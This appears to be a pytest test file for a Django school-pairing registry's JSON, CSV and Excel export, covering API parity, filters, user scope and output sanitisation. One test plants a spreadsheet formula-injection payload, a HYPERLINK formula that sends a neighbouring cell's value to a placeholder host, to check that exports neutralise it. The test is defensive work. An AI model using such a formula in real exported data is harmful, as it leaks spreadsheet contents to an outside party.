"""`junheng export`: JSON is what the API returns; CSV and Excel are the list page's columns; filters apply."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.test import Client

from junheng.core.models import ApiToken
from junheng.core.resources import REGISTRY
from junheng.organisations.choices import Role
from junheng.organisations.models import District

from .test_permissions import SAMPLES

pytestmark = pytest.mark.django_db


def export(tmp_path: Path, *args: str) -> Path:
    fmt = args[args.index("--format") + 1] if "--format" in args else "json"
    out = tmp_path / f"out.{fmt}"
    call_command("export", *args, "--output", str(out))
    return out


@pytest.mark.parametrize("resource", sorted(REGISTRY))
def test_json_export_is_what_the_api_returns(resource: str, tmp_path: Path, municipal: Any) -> None:
    sample = SAMPLES[resource]()  # at least one record, so that the two lists cannot agree by being empty
    exported = json.loads(export(tmp_path, resource, "--format", "json").read_text(encoding="utf-8"))
    api = Client(headers={"authorization": f"Bearer {ApiToken.objects.issue(municipal)}"})
    assert sample.pk in {item["id"] for item in exported}
    listed = api.get(f"/api/v1/{resource}/", {"limit": 1000}).json()  # the API's largest page
    assert exported[:1000] == listed["items"] and len(exported) == listed["count"]


def test_pairings_json_has_the_agreed_fields(tmp_path: Path) -> None:
    pairings = json.loads(export(tmp_path, "pairings", "--format", "json").read_text(encoding="utf-8"))
    assert len(pairings) == 66
    row = next(p for p in pairings if p["kind"] == "entrusted" and p["sequence"] == 17)
    assert row["supported_school"] == {"name": "金泽小学", "district_code": "310118"}
    assert row["supporting_unit"]["name"] == "上海名师培训中心"
    assert row["supporting_unit"]["district_code"] == "310101"
    assert row["project_title"] is None


def test_csv_and_xlsx_have_the_list_columns_and_honour_filters(tmp_path: Path) -> None:
    args = ("pairings", "--filter", "kind=entrusted", "--filter", "supported_district=310151")
    rows = list(
        csv.reader(io.StringIO(export(tmp_path, *args, "--format", "csv").read_text(encoding="utf-8-sig")))
    )
    assert rows[0] == ["类型", "序号", "受援区", "受援学校", "支援区", "支援单位", "项目名称"]
    assert [r[1] for r in rows[1:]] == ["32", "33", "34", "35", "36", "37", "38"]  # 崇明区
    sheet = openpyxl.load_workbook(export(tmp_path, *args, "--format", "xlsx")).active
    assert [["" if v is None else str(v) for v in r] for r in sheet.iter_rows(values_only=True)] == rows


def test_export_as_a_user_stays_in_their_scope(tmp_path: Path, make_user: Any) -> None:
    user = make_user(Role.DISTRICT_BUREAU, District.objects.get(code="310118"))
    pairings = json.loads(export(tmp_path, "pairings", "--user", user.username).read_text(encoding="utf-8"))
    assert {p["sequence"] for p in pairings} == {17, 18, 19, 20}  # 青浦: part 一 17–19, part 二 20
    assert {p["supported_school"]["district_code"] for p in pairings} == {"310118"}


def test_unknown_filters_are_refused(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="未知的筛选条件"):
        export(tmp_path, "schools", "--filter", "colour=red")
    with pytest.raises(CommandError, match="district"):
        export(tmp_path, "schools", "--filter", "district=999999")


FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'


def test_exported_text_never_becomes_a_formula(make_user: Any) -> None:
    from junheng.core.services import object_save
    from junheng.organisations.models import School

    qingpu = District.objects.get(code="310118")
    object_save(actor=None, instance=School(name=FORMULA, district=qingpu), check_scope=False)
    client = Client()
    client.force_login(make_user(Role.DISTRICT_BUREAU, qingpu))

    response = client.get("/registry/schools/", {"export": "xlsx", "district": qingpu.code})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    response = client.get("/registry/schools/", {"export": "csv", "district": qingpu.code})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    (text,) = [value for row in rows for value in row if "HYPERLINK" in value]
    assert text == "'" + FORMULA


def test_formula_starts_are_neutralised_and_numbers_left_alone(tmp_path: Path) -> None:
    from junheng.core.exports import neutralised, write_workbook

    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralised(text) == "'" + text
    for value in (-3, -2.5, "-2.5", "+7", "1e3", "张三", "", None):
        assert neutralised(value) == value
    path = tmp_path / "w.xlsx"
    with path.open("wb") as out:
        write_workbook([("表", [["数", "文字"], [-3, "=1+1"], [-2.5, "-2.5"]])], out)
    rows = list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert rows == [("数", "文字"), (-3, "'=1+1"), (-2.5, "-2.5")]


def test_control_characters_in_user_text_do_not_break_an_export(make_user: Any) -> None:
    from junheng.core.services import object_save
    from junheng.organisations.models import School

    qingpu = District.objects.get(code="310118")
    object_save(actor=None, instance=School(name="铃声\x07小学\x1b", district=qingpu), check_scope=False)
    client = Client()
    client.force_login(make_user(Role.DISTRICT_BUREAU, qingpu))
    response = client.get("/registry/schools/", {"export": "xlsx", "district": qingpu.code})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "铃声小学" in {c.value for row in sheet.iter_rows() for c in row}


def test_yes_or_no_columns_are_exported_as_shi_and_fou(tmp_path: Path) -> None:
    from junheng.organisations.models import School

    qingpu = School.objects.filter(district__code="310118").order_by("pk")
    new_school = qingpu.first()
    School.objects.filter(pk=new_school.pk).update(is_new=True)
    args = ("schools", "--filter", "district=310118")
    rows = list(
        csv.reader(io.StringIO(export(tmp_path, *args, "--format", "csv").read_text(encoding="utf-8-sig")))
    )
    sheet = openpyxl.load_workbook(export(tmp_path, *args, "--format", "xlsx")).active
    for table in (rows, [list(r) for r in sheet.iter_rows(values_only=True)]):
        header = table[0]
        new = header.index("新开办学校")
        by_name = {row[0]: row for row in table[1:]}
        assert by_name[new_school.name][new] == "是"
        assert {row[new] for row in table[1:]} == {"是", "否"}
        assert not {"True", "False", True, False} & {value for row in table for value in row}
